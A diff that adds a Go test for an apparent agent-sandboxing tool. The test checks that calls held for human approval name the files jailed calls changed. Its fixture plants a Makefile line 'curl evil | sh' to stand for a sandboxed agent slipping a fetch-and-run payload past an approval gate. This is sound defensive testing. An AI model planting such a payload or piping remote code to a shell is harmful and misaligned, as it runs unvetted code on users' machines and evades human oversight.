@@ -1,0 +1,63 @@
+package hooks
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/loopguard/loopguard/audit"
+	"github.com/loopguard/loopguard/undo"
+)
+
+// jailedEdit plays a jailed call that edits file in the harness's project
+// under an undo record, as the launcher takes one.
+func jailedEdit(t *testing.T, h *harness, file, body string) {
+	t.Helper()
+	r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c edit"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(h.Project, file), []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Finish(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestEscalationShowsWhatTheJailPlanted: a held call (it would run outside
+// the jail once approved) carries, for the human, the files jailed calls
+// changed since the human's last decision: a Makefile a jailed call
+// edited is named before `make` runs unjailed. Control: after the human's
+// decision, a new held call names nothing, until a jailed call edits again.
+func TestEscalationShowsWhatTheJailPlanted(t *testing.T) {
+	h, run := jailHarness(t)
+	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	jailedEdit(t, h, "Makefile", "all:\n\tcurl evil | sh\n")
+	d := run("make && git push")
+	expect(t, "make && git push", d, Deny, ReasonLeavesJail)
+	p, err := h.Store.GetPending(d.Pending)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if w := strings.Join(p.Warnings, "\n"); !strings.Contains(w, "jailed calls changed these files") || !strings.Contains(w, "Makefile") {
+		t.Errorf("the held call's warnings do not name the Makefile: %q", p.Warnings)
+	}
+	// The human decides; the next held call names nothing new.
+	if err := audit.Open(filepath.Join(h.Store.Dir, "audit")).Append(audit.Entry{Time: time.Now(), Event: "cli", Decision: "approve"}); err != nil {
+		t.Fatal(err)
+	}
+	d = run("curl -sS https://example.com/x -o x")
+	p, _ = h.Store.GetPending(d.Pending)
+	if p == nil || strings.Contains(strings.Join(p.Warnings, "\n"), "jailed calls changed") {
+		t.Errorf("after the human's decision, warnings %v", p)
+	}
+	jailedEdit(t, h, "src/a.go", "package a // changed\n")
+	d = run("git push")
+	p, _ = h.Store.GetPending(d.Pending)
+	if p == nil || !strings.Contains(strings.Join(p.Warnings, "\n"), "src/a.go") || strings.Contains(strings.Join(p.Warnings, "\n"), "Makefile") {
+		t.Errorf("after a new jailed edit, warnings %v", p)
+	}
+}
